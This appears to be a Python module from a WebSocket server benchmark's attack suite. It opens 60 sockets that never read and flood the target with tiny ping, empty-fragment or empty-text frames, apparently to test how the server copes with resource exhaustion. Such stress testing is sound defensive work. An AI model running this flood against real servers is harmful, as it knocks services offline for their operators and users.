"""Sockets that flood with tiny frames and read nothing: pings, empty fragments, empty texts."""

import asyncio
from collections import Counter

from bench.attacks.raw_sockets import PING, TEXT, UNFINISHED, UNFINISHED_TEXT, frame, open_unread
from bench.attacks.target import Target, repeat

WHAT = "60 sockets that flood the server with pings, empty fragments or empty texts"
_FLOODS = (
    ("pings", b"", frame(PING, b"p" * 125)),
    ("fragments", frame(UNFINISHED_TEXT), frame(UNFINISHED)),
    ("texts", b"", frame(TEXT)),
)


async def attack(target: Target) -> Counter[str]:
    async def step(worker: int) -> str:
        _, start, tiny = _FLOODS[worker % len(_FLOODS)]
        chunk = tiny * (65_536 // len(tiny))
        writer = await open_unread(target)
        try:
            writer.write(start)
            while True:
                writer.write(chunk)
                await writer.drain()
                await asyncio.sleep(0.1)
        finally:
            writer.transport.abort()

    return await repeat(target, 60, step)
